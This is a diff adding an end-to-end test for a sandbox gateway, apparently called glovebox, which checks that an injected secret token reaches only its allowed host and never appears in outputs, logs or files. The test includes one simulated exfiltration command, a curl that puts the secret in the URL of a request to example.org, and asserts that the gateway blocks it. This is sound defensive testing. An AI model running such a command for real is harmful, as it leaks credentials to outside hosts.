@@ -1,5 +1,5 @@
 import { execFileSync } from "node:child_process";
-import { createReadStream, existsSync, mkdirSync, statSync, writeFileSync } from "node:fs";
+import { createReadStream, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { createSessionAuthority, type Origin, openOrigin } from "../support/egress.ts";
@@ -13,6 +13,7 @@ let data: TestData;
 let server: Origin;
 let client: TestClient;
 
+const SECRET = "e2e-value-5f2c81aa90d7";
 const DIRECT = { HTTP_PROXY: "", HTTPS_PROXY: "", http_proxy: "", https_proxy: "" };
 const WAYS = [
   ["by the proxy", {}],
@@ -26,6 +27,10 @@ beforeAll(async () => {
   const site = join(data.directory, "site");
   makeRepository(site);
   server = await openOrigin((request, response) => {
+    if (request.url === "/echo") {
+      response.end(`sent ${request.headers.authorization}`);
+      return;
+    }
     const file = join(site, new URL(request.url ?? "/", "http://x").pathname);
     if (existsSync(file) && statSync(file).isFile()) createReadStream(file).pipe(response);
     else response.writeHead(404).end("no such file");
@@ -37,10 +42,15 @@ beforeAll(async () => {
   hosts: {files.test: 127.0.0.1}
   private: [files.test]
   allow: ${JSON.stringify([`files.test:${server.port}`, ...new Set(hosts)])}
+secrets:
+  - name: FILES_TOKEN
+    source: {env: GLOVEBOX_TEST_SECRET}
+    hosts: [{host: files.test, ports: [${server.port}]}]
 resources: {memoryMiB: 1536}
 `,
   );
   const trusted = join(data.directory, "authority.pem");
+  process.env["GLOVEBOX_TEST_SECRET"] = SECRET;
   client = await connect(data, ["--policy", policy, "--trusted-ca", trusted, "--spares", "0"]);
   await client.call("exec", { argv: ["true"] }, { timeoutMs: 120_000 });
 }, 180_000);
@@ -114,6 +124,29 @@ test("every connection is on record, with the call that it is due to", async () 
     facts: { host: "example.com", port: 80, calls: expect.arrayContaining([callId]) },
   });
 });
+
+test("a secret is used without being had: no result, log, record or file of the gateway holds it [G21]", async () => {
+  const before = server.requests.length;
+  const url = `https://files.test:${server.port}/echo`;
+  const used = await shell(`curl -sS -m 20 ${url} -H "Authorization: Bearer $FILES_TOKEN"; echo; echo "$FILES_TOKEN"`);
+  expect(server.requests[before]?.headers.authorization).toBe(`Bearer ${SECRET}`);
+  const [echoed, placeholder = ""] = String(used.result.stdout).split("\n");
+  expect(echoed).toBe(`sent Bearer ${"*".repeat(SECRET.length)}`);
+  expect(placeholder).toMatch(/^glovebox-secret-FILES_TOKEN-/);
+  const stolen = await shell('curl -sS -m 20 "http://example.org/$FILES_TOKEN"');
+  expect(stolen.result.blocked?.[0]).toContain("example.org:80` blocked");
+  expect(JSON.stringify(used.raw) + client.stderr()).not.toContain(SECRET);
+  const written = filesBelow(data.directory).filter((it) => readFileSync(it).includes(SECRET));
+  expect(written).toEqual([]);
+}, 60_000);
+
+/** All that the gateway keeps, without what the tests share. */
+function filesBelow(directory: string): string[] {
+  return readdirSync(directory, { recursive: true, withFileTypes: true })
+    .filter((it) => it.isFile())
+    .map((it) => join(it.parentPath, it.name))
+    .filter((it) => statSync(it).size < 2 ** 31);
+}
 
 describe.each(WAYS)("%s", (way, env) => {
   const folder = way === "by the proxy" ? "a" : "b";
